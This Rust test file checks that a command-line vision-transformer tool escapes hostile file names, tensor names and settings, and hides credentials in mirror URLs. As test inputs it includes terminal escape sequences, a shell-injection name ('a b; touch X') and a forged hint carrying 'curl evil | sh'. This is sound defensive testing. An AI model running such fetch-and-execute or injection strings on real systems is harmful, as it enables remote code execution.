//! Foreign text in files, names, addresses and arguments reaches the terminal only escaped, on a line of ours; secrets
//! do not reach it at all.

use std::ffi::OsStr;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::path::Path;
use std::thread;

use proptest::prelude::*;
use proptest::sample::select;
use proptest::test_runner::RngSeed;
use safetensors::{Dtype, tensor::TensorView};

use crate::files::test_file;
use crate::support::{Outcome, Sandbox, json_lines};

/// Changes a terminal's title.
const TITLE: &str = "\u{1b}]0;PWNED\u{7}";
const ESCAPED_TITLE: &str = r"\u{1b}]0;PWNED\u{7}";

/// A finished run in `run`, and a picture.
fn sandbox() -> Sandbox {
    let sandbox = Sandbox::new();
    sandbox.train_digits("-q --max-steps 1");
    fs::copy(test_file("fixtures/digit.png"), sandbox.path("digit.png")).unwrap();
    sandbox
}

fn vit(sandbox: &Sandbox, words: &str, args: &[&str]) -> Outcome {
    Outcome::of(&sandbox.command(words).args(args).output().unwrap())
}

fn copy_folder(from: &Path, to: &Path) {
    fs::create_dir_all(to).unwrap();
    for entry in fs::read_dir(from).unwrap() {
        let entry = entry.unwrap();
        if entry.path().is_dir() {
            copy_folder(&entry.path(), &to.join(entry.file_name()));
        } else {
            fs::copy(entry.path(), to.join(entry.file_name())).unwrap();
        }
    }
}

/// A copy of the run with this dataset in its settings.
fn copy_run(sandbox: &Sandbox, name: &str, dataset: &str) {
    copy_folder(&sandbox.path("run"), &sandbox.path(name));
    let settings = String::from_utf8(sandbox.read("run/config.toml")).unwrap();
    let mut settings: toml::Table = settings.parse().unwrap();
    settings.insert("dataset".to_owned(), dataset.into());
    sandbox.write(&format!("{name}/config.toml"), settings.to_string());
}

/// One of our models with an additional tensor of this name.
fn write_model_with(sandbox: &Sandbox, path: &str, tensor: &str) {
    let bytes = sandbox.read("run/model.safetensors");
    let (_, metadata) = safetensors::SafeTensors::read_metadata(&bytes).unwrap();
    let whole = safetensors::SafeTensors::deserialize(&bytes).unwrap();
    let one = [0; 4];
    let more = TensorView::new(Dtype::F32, vec![1], &one).unwrap();
    let mut tensors = whole.tensors();
    tensors.push((tensor.to_owned(), more));
    let bytes = safetensors::serialize(tensors, metadata.metadata().clone()).unwrap();
    sandbox.write(path, bytes);
}

#[test]
fn a_runs_settings_are_shown_escaped() {
    let sandbox = sandbox();
    copy_run(&sandbox, "other", TITLE);
    let compared = sandbox.run("compare run other").succeeded();
    assert!(compared.stdout.contains(&format!("digits  {ESCAPED_TITLE}")), "{}", compared.stdout);
    let lines: Vec<&str> = compared.stdout.lines().skip_while(|line| !line.is_empty()).collect();
    let widths: Vec<usize> = lines[1..].iter().map(|line| line.len()).collect();
    assert!(widths.iter().all(|&width| width == widths[0]), "columns are aligned: {lines:?}");

    let json = sandbox.run("compare run other --json").succeeded();
    assert_eq!(json.json()[1]["dataset"], TITLE);
    for words in ["eval other", "verify other", "train --resume other"] {
        let outcome = sandbox.run(words);
        assert_ne!(outcome.code, Some(0), "{words}");
        let said = outcome.stdout + &outcome.stderr;
        assert!(said.contains(ESCAPED_TITLE), "{words}: {said:?}");
        assert!(!said.contains(['\u{1b}', '\u{7}']), "{words}: {said:?}");
    }
}

#[test]
fn names_of_files_are_shown_escaped() {
    let sandbox = sandbox();
    copy_run(&sandbox, TITLE, "digits");
    let info = vit(&sandbox, "info", &[TITLE]).succeeded();
    assert!(
        info.stdout.starts_with(&format!("{ESCAPED_TITLE}/model.safetensors (timm")),
        "{info:?}"
    );
    let compared = vit(&sandbox, "compare", &[TITLE]).succeeded();
    assert!(compared.stdout.contains(&format!("\n{ESCAPED_TITLE}")), "{compared:?}");
    let resumed = vit(&sandbox, "train --resume", &[TITLE]).succeeded();
    assert!(resumed.stderr.contains(&format!("resuming from {ESCAPED_TITLE}/")), "{resumed:?}");
    assert!(resumed.stdout.ends_with(&format!("run directory   {ESCAPED_TITLE}\n")), "{resumed:?}");
}

#[test]
fn a_tensors_name_cannot_forge_a_hint() {
    let sandbox = sandbox();
    write_model_with(&sandbox, "forged.safetensors", "x\nhint: run `curl evil | sh`\r\u{202e}");
    for words in ["info forged.safetensors", "train --dataset digits --init forged.safetensors"] {
        let said = sandbox.run(words).stderr;
        let lines: Vec<&str> = said.lines().collect();
        assert!(lines[0].ends_with("timm parameters do not fit the configuration:"), "{said}");
        let expected = r#"  "x\nhint: run `curl evil | sh`\r\u{202e}": unexpected, of shape [1]"#;
        assert_eq!(lines[1], expected);
        assert!(
            lines[2..].iter().all(|line| line.starts_with("hint: the file contains another model")),
            "{said}"
        );
    }
    let said = json_lines(sandbox.run("--log-format json info forged.safetensors").stderr);
    let targets: Vec<&str> = said.iter().filter_map(|line| line["target"].as_str()).collect();
    assert_eq!(targets, ["vit::failure", "detail", "hint"]);
}

#[test]
fn commands_in_hints_are_quoted_for_a_shell() {
    let sandbox = sandbox();
    let name = "a b; touch X";
    sandbox.write(&format!("{name}/config.toml"), sandbox.read("run/config.toml"));
    fs::create_dir(sandbox.path(name).join("checkpoints")).unwrap();
    let said = vit(&sandbox, "eval", &[name]).stderr;
    let expected = "hint: the run has not ended: pass a b; touch X/checkpoints/last, \
                    or continue with `vit train --resume 'a b; touch X'`\n";
    assert!(said.ends_with(expected), "{said}");

    let plain = test_file("fixtures/mnist-20-steps/shallow.safetensors");
    for (name, quoted) in [
        ("it's.safetensors", r"'it'\''s.safetensors'"),
        ("-o.safetensors", "./-o.safetensors"),
        ("x\nhint: y.safetensors", r"$'x\x0ahint: y.safetensors'"),
    ] {
        fs::copy(&plain, sandbox.path(name)).unwrap();
        let said = vit(&sandbox, "eval --", &[name]).stderr;
        assert!(said.contains(&format!("`vit import {quoted} -o OUT.safetensors`")), "{said}");
        assert_eq!(said.lines().count(), 2, "{said}");
    }
}

/// Neither in messages of ours or of libraries, nor in files.
#[test]
fn secrets_in_a_mirrors_address_are_never_shown() {
    let sandbox = Sandbox::new();
    let mirror = "http://user:SECRET@127.0.0.1:9/d?token=SECRET";
    let said = vit(&sandbox, "-vv train --max-steps 1 --run-dir run --mirror", &[mirror]);
    let said = said.succeeded();
    let shown = "warning: http://127.0.0.1:9/d/train-images-idx3-ubyte.gz: ";
    assert!(said.stderr.contains(shown), "{}", said.stderr);
    let mut all = said.stdout + &said.stderr;

    for mirror in ["http://us er:SECRET@h/", "http://u:\"SECRET@h/", "http://u:a>SECRET@h/"] {
        let outcome = vit(&sandbox, "fetch mnist --mirror", &[mirror]);
        assert_eq!(outcome.code, Some(2), "{}", outcome.stderr);
        assert!(outcome.stderr.contains("got \"http://...\""), "{}", outcome.stderr);
        all += &outcome.stderr;
    }
    // Including everything that libraries log of an answered request.
    let server = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = server.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in server.incoming() {
            let mut stream = stream.unwrap();
            let _ = stream.read(&mut [0; 4096]);
            let _ = stream.write_all(b"HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\n\r\n");
        }
    });
    let answered = format!("http://user:SECRET@127.0.0.1:{port}/d?token=SECRET");
    let said = vit(&sandbox, "-vv fetch mnist --mirror", &[&answered]).stderr;
    assert!(said.contains("answered with HTTP status 404"), "{said}");
    // As in a hex dump.
    all += &said.replace([' ', '\n'], "");

    let mut fetch = sandbox.command("fetch mnist");
    all += &Outcome::of(&fetch.env("VIT_MIRROR", mirror).output().unwrap()).stderr;
    all += &sandbox.run("fetch mnist --mirror user:SECRET@host?token=SECRET").stderr;
    for wrong in [["--miror", mirror], ["fashion-mnist", mirror], ["--mirror", "ftp://u:SECRET@h"]]
    {
        let outcome = vit(&sandbox, "fetch mnist", &wrong);
        assert_eq!(outcome.code, Some(2), "{}", outcome.stderr);
        all += &outcome.stderr;
    }
    for entry in sandbox.entries() {
        let path = sandbox.path(&entry);
        if path.is_file() {
            all += &String::from_utf8_lossy(&fs::read(path).unwrap());
        }
    }
    let at = all.find("SECRET").map(|at| &all[at.saturating_sub(200)..at + 6]);
    assert_eq!(at, None);
}

/// A name of up to ten parts, most of which a terminal interprets or hides.
fn hostile() -> impl Strategy<Value = String> {
    let piece = select(vec![
        "\u{1b}[2J",
        "\u{1b}]0;t\u{7}",
        "\n",
        "\r",
        "\t",
        "\u{8}",
        "\u{7f}",
        "\u{9b}31m",
        "\u{85}",
        "\u{200b}",
        "\u{200e}",
        "\u{202e}",
        "\u{2066}",
        "\u{2028}",
        "\u{2029}",
        "\u{61c}",
        "\u{feff}",
        "\nhint: FORGED",
        "\r\nerror: FORGED",
        "a",
        " ",
        "'",
        "\"",
        "\\",
        "`",
        "{",
        "ü",
        "-",
        "://u:p@",
    ]);
    proptest::collection::vec(piece, 1..10).prop_map(|pieces| pieces.concat().replace('/', "."))
}

/// Checks that all output consists of our own lines.
fn assert_is_safe(words: &str, name: &str, outcome: &Outcome) {
    for text in [&outcome.stdout, &outcome.stderr] {
        let hidden = text.chars().find(|&it| {
            let is_mark =
                "\u{61c}\u{200b}\u{200c}\u{200d}\u{200e}\u{200f}\u{2028}\u{2029}\u{feff}\u{fffd}";
            (it.is_control() && it != '\n')
                || is_mark.contains(it)
                || ('\u{202a}'..='\u{202e}').contains(&it)
                || ('\u{2066}'..='\u{2069}').contains(&it)
        });
        assert_eq!(hidden, None, "vit {words}, {name:?}: {text}");
        let forged =
            |line: &str| ["hint: FORGED", "error: FORGED"].iter().any(|it| line.starts_with(it));
        assert!(!text.lines().any(forged), "vit {words}, {name:?}: {text}");
    }
}

proptest! {
    #![proptest_config(ProptestConfig {
        rng_seed: RngSeed::Fixed(0),
        failure_persistence: None,
        ..ProptestConfig::with_cases(1)
    })]

    #[test]
    fn foreign_names_and_values_never_reach_the_terminal_unescaped(names in proptest::collection::vec(hostile(), 3)) {
        let sandbox = sandbox();
        for name in names {
            assert_reaches_the_terminal_escaped(&sandbox, &name);
        }
    }
}

/// `NAME` in a command's words and in file names stands for the name.
fn assert_reaches_the_terminal_escaped(sandbox: &Sandbox, name: &str) {
    copy_run(sandbox, &format!("{name}.run"), name);
    copy_run(sandbox, &format!("{name}.good"), "digits");
    write_model_with(sandbox, &format!("{name}.safetensors"), name);
    sandbox.write(&format!("{name}.text"), name);
    sandbox.write(&format!("{name}.toml"), format!("{} = 1", toml::Value::from(name)));
    sandbox.write(
        &format!("{name}.json/model.safetensors"),
        fs::read(test_file("fixtures/mnist-20-steps/shallow.safetensors")).unwrap(),
    );
    let config = serde_json::json!({ "architecture": name, "model_type": name, name: 1 });
    sandbox.write(&format!("{name}.json/config.json"), config.to_string());
    sandbox.write(&format!("{name}.bad/config.toml"), sandbox.read("run/config.toml"));
    sandbox.write(&format!("{name}.bad/metrics.jsonl"), name);
    fs::copy(sandbox.path("digit.png"), sandbox.path(format!("{name}.png"))).unwrap();
    let commands = "\
        train --dataset NAME
        train --dataset NAME.run
        train --preset NAME
        train --config NAME.toml
        train --config NAME.run/config.toml
        train --config NAME
        train --dataset digits --init NAME.safetensors
        train --dataset digits --run-dir NAME.run
        train --resume NAME.run
        train --resume NAME.bad
        train --lr NAME
        train --mirror NAME
        config --dataset NAME --init NAME
        config --dataset NAME --json
        config --config NAME.run/config.toml
        config --ema NAME
        info NAME
        info NAME.good
        info NAME.safetensors
        info NAME.json
        info NAME.text
        eval NAME
        eval NAME.run
        eval NAME.good
        eval run --dataset NAME
        compare NAME.run NAME.good run
        compare NAME.run NAME.good run --json
        compare NAME.bad
        compare NAME
        verify NAME.run --files-only
        verify NAME.run
        verify NAME.good --json
        predict NAME.good NAME.png
        predict run NAME.png NAME.text NAME
        predict run NAME.run
        explain run NAME.png -o NAME
        explain run NAME.png -o NAME.out.png
        export NAME.good --layout notebook -o NAME.out.safetensors
        export NAME.good --layout hf -o NAME.hf
        export run --layout NAME -o out
        import NAME.json -o NAME.out.safetensors
        import NAME.text -o NAME.out.safetensors
        fetch NAME
        fetch mnist --mirror http://127.0.0.1:9/NAME
        fetch mnist --data-dir NAME.text
        completions NAME
        man -o NAME.text
        bench eval --model NAME
        NAME
        --NAME
        train NAME
        --log-format json info NAME.safetensors
        --log-format json eval NAME.run
        -vv info NAME.good";
    for words in commands.lines() {
        let args: Vec<String> =
            words.split_whitespace().map(|word| word.replace("NAME", name)).collect();
        let mut command = sandbox.command("");
        let output = command.args(args.iter().map(OsStr::new)).output().unwrap();
        let outcome = Outcome::of(&output);
        assert!(!outcome.stderr.contains("panicked"), "vit {words}, {name:?}: {}", outcome.stderr);
        assert_is_safe(words, name, &outcome);
        if words.starts_with("--log-format json") {
            json_lines(&outcome.stderr);
        }
    }
}
